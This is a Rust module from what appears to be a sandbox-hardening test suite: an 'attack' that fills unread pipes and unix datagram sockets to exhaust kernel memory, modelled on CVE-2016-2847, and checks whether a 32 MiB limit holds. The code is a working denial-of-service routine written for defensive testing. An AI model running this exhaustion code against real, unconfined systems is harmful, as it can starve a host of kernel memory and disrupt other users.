use crate::attack::{Attack, Class, Limits, TIGHT, Verdict};
use crate::kernel::call;
use std::os::unix::net::UnixDatagram;

pub const ATTACK: Attack = Attack {
    name: "pipes",
    tries: "fills pipes and unix sockets that nobody reads, which are memory of the kernel",
    stands_for: "CVE-2016-2847 (pipe buffers), descriptors in flight",
    must: "they are the run's memory, and a neighbour's pipes are as before",
    ends: &["CANCELLED", "OOM_KILLED"],
    holds: true,
    limits: Limits {
        memory_mib: 32,
        open_files: 1024,
        ..TIGHT
    },
    ..Attack::new(Class::Exhaustion, run)
};

const MOST: usize = 400;
const PIPE_BYTES: i64 = 1 << 20;

fn run() -> Verdict {
    let taken = (pipes() + sockets()) >> 20;
    if taken <= 32 {
        Verdict::Held(format!("{taken} MiB"))
    } else {
        Verdict::Broken(format!("{taken} MiB of buffers under a limit of 32"))
    }
}

fn pipes() -> usize {
    let block = vec![7_u8; PIPE_BYTES as usize];
    let mut taken = 0;
    for _ in 0..MOST {
        let mut ends = [0_i32; 2];
        if call(libc::SYS_pipe2, [ends.as_mut_ptr() as i64, libc::O_NONBLOCK.into()]).is_err() {
            break;
        }
        let writer = i64::from(ends[1]);
        let _ = call(libc::SYS_fcntl, [writer, libc::F_SETPIPE_SZ.into(), PIPE_BYTES]);
        while let Ok(bytes) = call(libc::SYS_write, [writer, block.as_ptr() as i64, PIPE_BYTES]) {
            taken += bytes as usize;
        }
    }
    taken
}

fn sockets() -> usize {
    let message = [7_u8; 8192];
    let (mut open, mut taken) = (Vec::new(), 0);
    for _ in 0..MOST {
        let Ok((sender, receiver)) = UnixDatagram::pair() else { break };
        if sender.set_nonblocking(true).is_err() {
            break;
        }
        while let Ok(bytes) = sender.send(&message) {
            taken += bytes;
        }
        open.push((sender, receiver));
    }
    std::mem::forget(open);
    taken
}
